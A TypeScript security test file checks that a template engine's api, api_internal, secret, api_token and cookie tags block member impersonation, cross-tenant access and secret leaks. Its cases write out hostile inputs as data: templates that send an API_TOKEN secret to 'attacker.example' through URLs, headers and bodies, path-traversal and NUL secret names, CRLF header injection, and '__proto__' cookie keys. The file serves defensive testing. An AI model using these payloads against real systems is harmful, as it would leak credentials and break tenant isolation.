/**
 * Catalogue cases of category BR (docs/security.md) for the api family: acting member
 * (api_internal, api_mng), secrets in requests and errors, secret names, api_token, the cookie
 * store, tenant scoping. Hosts: src/security/host/http.ts (internalApi, members with super
 * user 1, apiTokens, cookies) and the canaries' secrets (default: API_TOKEN for
 * api.example.com; victim: VICTIM_KEY).
 *
 * Not automated here: BR-01 (the literal-ness of member_id must be proven by the compiler,
 * which does not do it yet: see the api family notes; a case would pass only by testing
 * something else), BR-04 (the harness host keeps no sessions: {login} is tried on a real site in
 * test/plugins/session/login.test.ts), BR-05/09/12/13/15/16/17 (plugins of other families).
 */
import type { Canaries, HarnessContext, Outcome, RenderAttempt, SecurityCase } from '../types.js';
import type { RenderOptions } from '../../engine.js';
import { allRefused, judge } from './helpers.js';
import { harnessHttp } from '../host/http.js';

async function control(
  h: HarnessContext,
  template: string,
  ok: (a: RenderAttempt) => boolean,
  what: string,
  opts: RenderOptions = {},
): Promise<Outcome | null> {
  const a = await h.render(template, opts);
  const o = judge(h, a, ok(a), what);
  return o.status === 'contained'
    ? null
    : { ...o, detail: `control ${JSON.stringify(template.slice(0, 90))}: ${o.detail}` };
}

const own = (h: HarnessContext): string | undefined =>
  (h.canaries as Canaries & { ownSecretValue?: string }).ownSecretValue;

export const BR: SecurityCase[] = [
  {
    id: 'BR-09',
    category: 'BR',
    title: "encryption keys: another site's ciphertext does not decrypt; key material never reaches the template",
    async run(h) {
      const enc = await h.render('{rcms_encrypt action="encrypt" data="victim data" key="k"}', {
        identity: { tenant: 'victim' },
      });
      if (!enc.output?.startsWith('v1.')) return judge(h, enc, false, 'the victim encrypts');
      const a = await h.render('{rcms_encrypt var=p action="decrypt" data=$c key="k"}{if $p === false}refused{/if}', {
        vars: { c: enc.output },
      });
      const probe = await h.rawJs(
        'return Object.keys(globalThis).filter((k) => /key|secret/i.test(k)).join(",") + "|" + JSON.stringify(Object.keys($));',
      );
      const keyish = /siteKey|derived/.test(probe.output ?? '');
      return judge(
        h,
        a,
        a.output === 'refused' && !keyish,
        'decryption under another site key fails; nothing key-like is reachable in the isolate',
      );
    },
  },
  {
    id: 'BR-01',
    category: 'BR',
    title: 'acting member from a variable: only for super users; literals are proven by the compiler, not the isolate',
    async run(h) {
      const s = harnessHttp();
      const before = s.internalCalls.length;
      const bad = await allRefused(h, [
        // a variable, for an ordinary member: refused before the render runs
        {
          template: '{api_internal endpoint="/rcms-api/1/me" member_id=$target var=r}',
          codes: ['E_IDENTITY_DENIED'],
          opts: { vars: { target: 5 } },
        },
        {
          template: '{api_mng endpoint="/management/topics/list/" member_id=$target var=r}',
          codes: ['E_IDENTITY_DENIED'],
          opts: { vars: { target: 5 } },
        },
      ]);
      if (bad) return bad;
      // "assume breach": the isolate forges a call with a member id the template never wrote
      const forged = await h.rawJs(
        `try { rt.fn('api_internal')({ endpoint: '/rcms-api/1/me', member_id: 5, var: 'r' }, $); return 'called'; } catch (e) { return String(e.code); }`,
      );
      if (forged.output !== 'E_IDENTITY_DENIED')
        return {
          status: 'escaped',
          detail: `a forged member_id from the isolate was accepted (${forged.output ?? forged.code})`,
        };
      if (s.internalCalls.slice(before).length > 0)
        return { status: 'escaped', detail: 'a refused request reached the API' };
      const literal = await control(
        h,
        '{api_internal endpoint="/x" member_id=5 var=r status_var=s}{$s}',
        (a) => a.output === '1',
        'a numeric literal is allowed',
      );
      if (literal) return literal;
      const superUser = await control(
        h,
        '{api_internal endpoint="/x" member_id=$m var=r status_var=s}{$s}',
        (a) => a.output === '1',
        'a super user may pass a variable',
        { vars: { m: 5 }, identity: { memberId: 9, superUser: true } },
      );
      if (superUser) return superUser;
      return {
        status: 'contained',
        detail: 'variables refused for members, forged literals refused, literals and super users allowed',
      };
    },
  },
  {
    id: 'BR-02',
    category: 'BR',
    title: 'acting as a super user',
    async run(h) {
      const s = harnessHttp();
      const before = s.internalCalls.length;
      const bad = await allRefused(h, [
        { template: '{api_internal endpoint="/x" member_id=1 var=r}', codes: ['E_IDENTITY_DENIED'] },
        {
          template: '{api_internal endpoint="/x" member_id=$m var=r}',
          codes: ['E_IDENTITY_DENIED'],
          opts: { vars: { m: 1 } },
        },
        {
          template: '{api_internal endpoint="/x" member_id=$m var=r}',
          codes: ['E_IDENTITY_DENIED'],
          opts: { vars: { m: '01' } },
        },
        { template: '{api_mng endpoint="/management/topics/list/" member_id=1 var=r}', codes: ['E_IDENTITY_DENIED'] },
        {
          template: '{api_internal endpoint="/x" member_id=1 var=r}',
          codes: ['E_IDENTITY_DENIED'],
          opts: { identity: { memberId: 7, superUser: true } },
        },
      ]);
      if (bad) return bad;
      if (s.internalCalls.slice(before).some((c) => c.req.actAs === 1))
        return { status: 'escaped', detail: 'a request acting as the super user reached the API' };
      const c = await control(
        h,
        '{api_internal endpoint="/x" member_id=5 var=r status_var=s}{$s}',
        (a) => a.output === '1',
        'member 5 (not a super user) is allowed',
      );
      if (c) return c;
      return {
        status: 'contained',
        detail: 'super user id refused as literal, variable and for a super-user caller; an ordinary member works',
      };
    },
  },
  {
    id: 'BR-03',
    category: 'BR',
    title: 'forbidden combinations (direct + member_id, direct on a POST endpoint)',
    async run(h) {
      const bad = await allRefused(h, [
        { template: '{api_internal endpoint="/x" direct=true member_id=5}', codes: ['E_BAD_COMBINATION'] },
        { template: '{api_internal endpoint="/rcms-api/1/post-only" direct=true}', codes: ['E_BAD_COMBINATION'] },
        { template: '{api_internal endpoint="/x" direct=true method="POST"}', codes: ['E_BAD_COMBINATION'] },
        { template: '{api_internal endpoint="/x" member_id=5 use_current_session=true}', codes: ['E_BAD_COMBINATION'] },
      ]);
      if (bad) return bad;
      const c = await control(
        h,
        '{api_internal endpoint="/x" direct=true var=r status_var=s}{$s}',
        (a) => a.output === '1',
        'direct on a GET endpoint works',
      );
      return c ?? { status: 'contained', detail: '4 combinations refused with E_BAD_COMBINATION; direct GET works' };
    },
  },
  {
    id: 'BR-06',
    category: 'BR',
    title: 'secret exfiltration through api (endpoint, query, queries, headers, body), api_internal, cookie, output',
    async run(h) {
      const s = harnessHttp();
      const before = s.seen.length;
      const u = `http://attacker.example:${s.port}/echo`;
      const sec = '{secret var=s key="API_TOKEN"}';
      const vars = { u, base: `http://attacker.example:${s.port}/?k=` };
      const D = ['E_SECRET_DENIED'];
      const bad = await allRefused(h, [
        { template: `${sec}{api endpoint="\`$base\`\`$s\`" status_var=x}`, codes: D, opts: { vars } },
        { template: `${sec}{api endpoint=$u query="k=\`$s\`" status_var=x}`, codes: D, opts: { vars } },
        {
          template: `${sec}{assign_array var=q values=$s}{api endpoint=$u queries=$q status_var=x}`,
          codes: D,
          opts: { vars },
        },
        {
          template: `${sec}{append var=hd value="X-Key: \`$s\`"}{api endpoint=$u headers=$hd status_var=x}`,
          codes: D,
          opts: { vars },
        },
        { template: `${sec}{api endpoint=$u method="POST" body=$s status_var=x}`, codes: D, opts: { vars } },
        {
          template: `${sec}{api endpoint=$u method="POST" json_body="\\{\\"k\\":\\"\`$s\`\\"\\}" status_var=x}`,
          codes: D,
          opts: { vars },
        },
        { template: `${sec}{api_internal endpoint="/x" query="k=\`$s\`" var=r}`, codes: D },
        {
          template: `${sec}{append var=hd value="X-Key: \`$s\`"}{api_internal endpoint="/x" headers=$hd var=r}`,
          codes: D,
        },
        { template: `${sec}{cookie key="k" value=$s}`, codes: D },
      ]);
      if (bad) return bad;
      const value = own(h);
      if (value !== undefined && s.seen.slice(before).some((r) => JSON.stringify(r).includes(value)))
        return { status: 'escaped', detail: 'the secret value reached the server' };
      if (s.seen.length !== before) return { status: 'escaped', detail: 'a refused request reached the server' };
      // Printed, a secret shows its handle (judge() scans the output for the value).
      const c = await control(
        h,
        `${sec}{$s}`,
        (a) => (a.output ?? '').startsWith('[secret:API_TOKEN:'),
        'output shows the handle only',
      );
      return (
        c ?? { status: 'contained', detail: '9 routes refused with E_SECRET_DENIED; output shows the handle only' }
      );
    },
  },
  {
    id: 'BR-07',
    category: 'BR',
    title: 'secrets in errors (mTLS material, a URL holding a secret)',
    async run(h) {
      const s = harnessHttp();
      // judge() fails a case whose message holds the secret value.
      const bad = await allRefused(h, [
        {
          template: '{api endpoint=$u sslcert="API_TOKEN" sslkey="API_TOKEN"}',
          codes: ['E_BAD_ATTRIBUTE'],
          opts: { vars: { u: `https://api.example.com:${s.httpsPort}/hello` } },
        },
        {
          template: '{api sslkey="NOT_A_PEM" endpoint="https://a.example"}',
          codes: ['E_BAD_COMBINATION', 'E_SECRET_NOT_FOUND'],
        },
        {
          template:
            '{secret var=t key="API_TOKEN"}{append var=hd value="X-Key: `$t`"}{api endpoint="https://api.example.com:25/" headers=$hd}',
          codes: ['E_SSRF_DENIED'],
        },
        {
          // A secret never goes into a URL (HH-03), so it cannot reach an error through one.
          template: '{secret var=t key="API_TOKEN"}{api endpoint=$u query="k=`$t`"}',
          codes: ['E_SECRET_DENIED'],
          opts: {
            vars: {
              u: `http://api.example.com:${s.port}/redirect?to=${encodeURIComponent(`http://127.0.0.1:${s.internal.port}/`)}`,
            },
          },
        },
        {
          template:
            '{secret var=t key="API_TOKEN"}{append var=hd value="X-Key: `$t`\r\nX-Other: 1"}{api endpoint=$u headers=$hd}',
          codes: ['E_BAD_HEADER'],
          opts: { vars: { u: `https://api.example.com:${s.httpsPort}/hello` } },
        },
      ]);
      return bad ?? { status: 'contained', detail: '5 failing calls around secrets: no secret value in any message' };
    },
  },
  {
    id: 'BR-08',
    category: 'BR',
    title: 'secret names: traversal, wildcard, NUL, other tenant, volume',
    async run(h) {
      const names = [
        '../other/KEY',
        '*',
        'KEY\u0000x',
        'VICTIM_KEY',
        'victim/VICTIM_KEY',
        'victim:VICTIM_KEY',
        'NO_SUCH_KEY',
        'API_TOKEN ',
        'api_token',
        '%',
        '.',
      ];
      const messages = new Set<string>();
      const lookups = names.map((k) => ({
        template: '{secret var=s key=$k}',
        codes: ['E_SECRET_NOT_FOUND'],
        opts: { vars: { k } },
        label: JSON.stringify(k),
      }));
      const refused = await allRefused(h, lookups, (a) =>
        messages.add((a.message ?? '').replace(/"[^]*"/, '"<name>"')),
      );
      if (refused) return refused;
      if (messages.size !== 1)
        return {
          status: 'escaped',
          detail: `missing and forbidden names answer differently: ${[...messages].join(' | ')}`,
        };
      const bad = await allRefused(h, [
        {
          template: '{api endpoint="http://api.example.com/" sslcert=$k sslkey=$k}',
          codes: ['E_SECRET_NOT_FOUND'],
          opts: { vars: { k: 'VICTIM_KEY' } },
        },
        {
          template: '{api endpoint="http://api.example.com/" sslcert=$k sslkey=$k}',
          codes: ['E_SECRET_NOT_FOUND'],
          opts: { vars: { k: '../victim/VICTIM_KEY' } },
        },
        { template: '{section name=i loop=10000}{secret var=s key="API_TOKEN"}{/section}', codes: ['E_BRIDGE_QUOTA'] },
      ]);
      return (
        bad ?? {
          status: 'contained',
          detail: `${names.length} names give one E_SECRET_NOT_FOUND; mTLS names likewise; 10 000 lookups stop at the bridge quota`,
        }
      );
    },
  },
  {
    id: 'BR-10',
    category: 'BR',
    title: "token minting for another tenant's API, unbounded expiry",
    async run(h) {
      const bad = await allRefused(h, [
        { template: '{api_token var=t type="static" api_id=999}', codes: ['E_PERMISSION_DENIED'] },
        { template: '{api_token var=t type="static" api_id=12345}', codes: ['E_PERMISSION_DENIED'] },
        { template: '{api_token var=t type="dynamic" api_id=1}', codes: ['E_PERMISSION_DENIED'] },
        { template: '{api_token var=t type="static" api_id=1 expires=999999999}', codes: ['E_BAD_ATTRIBUTE'] },
        { template: '{api_token var=t type="static" api_id=1 expires=0}', codes: ['E_BAD_ATTRIBUTE'] },
      ]);
      if (bad) return bad;
      const other = await h.render('{api_token var=t type="static" api_id=999}');
      const missing = await h.render('{api_token var=t type="static" api_id=12345}');
      if ((other.message ?? '').replace('999', 'N') !== (missing.message ?? '').replace('12345', 'N')) {
        return {
          status: 'escaped',
          detail: `another tenant's API and a missing one answer differently: ${other.message} / ${missing.message}`,
        };
      }
      const c = await control(
        h,
        '{api_token var=t type="static" api_id=1}{$t}',
        (a) => a.output === 'token-default-1',
        'own static API works',
      );
      return (
        c ?? {
          status: 'contained',
          detail: "another tenant's, missing and wrong-type APIs give one E_PERMISSION_DENIED; expiry bounded",
        }
      );
    },
  },
  {
    id: 'BR-11',
    category: 'BR',
    title: 'cookie store: key grammar, 10 000 keys, 1 MB value',
    async run(h) {
      const id = { requestId: `br11-${Date.now()}` };
      const bad = await allRefused(h, [
        ...['__proto__', 'constructor', 'prototype', 'a b', 'a;b', 'a=b', '0', '', 'x'.repeat(65), 'k\u0000'].map(
          (k) => ({
            template: '{cookie key=$k value="x"}',
            codes: ['E_BAD_ATTRIBUTE'],
            opts: { vars: { k }, identity: id },
          }),
        ),
        {
          template: '{section name=i loop=10000}{cookie key="k_`$smarty.section.i.index`" value="x"}{/section}',
          codes: ['E_QUOTA'],
          opts: { identity: { requestId: `${id.requestId}-many` } },
        },
        {
          template: '{cookie key="big" value=$v}',
          codes: ['E_SIZE_LIMIT'],
          opts: { vars: { v: 'x'.repeat(1024 * 1024) }, identity: id },
        },
      ]);
      if (bad) return bad;
      const c = await control(
        h,
        '{cookie key="lang" value="en"}{cookie var=l key="lang"}{cookie var=all}{$l}/{$all|@count}',
        (a) => a.output === 'en/1',
        'a valid entry is stored',
        { identity: id },
      );
      return c ?? { status: 'contained', detail: '10 bad keys refused; the store stops at 30 entries and 3800 bytes' };
    },
  },
  {
    id: 'BR-14',
    category: 'BR',
    title: 'cross-tenant identifiers (internal API, tokens, cookies), identity never from attributes',
    async run(h) {
      const s = harnessHttp();
      const before = s.internalCalls.length;
      const a = await h.render(
        '{api_internal endpoint="/rcms-api/9/victim-only" var=r status_var=s}[{$s}]{$r.victim_data}',
      );
      const o = judge(h, a, a.output === '[0]', "another tenant's endpoint is not found");
      if (o.status !== 'contained') return o;
      if (s.internalCalls.slice(before).some((c) => c.tenant !== 'default'))
        return { status: 'escaped', detail: 'the internal API was asked for another tenant' };
      const bad = await allRefused(h, [
        { template: '{api_internal endpoint="/rcms-api/9/victim-only" direct=true var=r}', codes: ['E_NOT_FOUND'] },
        { template: '{api_internal endpoint="/rcms-api/9/nothing" direct=true var=r}', codes: ['E_NOT_FOUND'] },
        { template: '{api_internal endpoint="/x" tenant="victim" var=r}', codes: ['E_UNKNOWN_ATTR'] },
        {
          template: '{api_internal endpoint="//victim.example/rcms-api/9/victim-only" var=r}',
          codes: ['E_BAD_ATTRIBUTE'],
        },
        { template: '{api_internal endpoint="/rcms-api/1/../9/victim-only" var=r}', codes: ['E_BAD_ATTRIBUTE'] },
      ]);
      if (bad) return bad;
      const requestId = `br14-${Date.now()}`;
      await h.render('{cookie key="who" value="tenant-a"}', { identity: { requestId } });
      const other = await h.render('{cookie var=w key="who"}[{$w}]', { identity: { tenant: 'victim', requestId } });
      const oc = judge(
        h,
        other,
        other.output === '[]',
        'another tenant does not see the cookie jar of the same request id',
      );
      if (oc.status !== 'contained') return oc;
      return {
        status: 'contained',
        detail: "another tenant's endpoint and cookie jar are not reachable; tenant comes from the identity",
      };
    },
  },
];
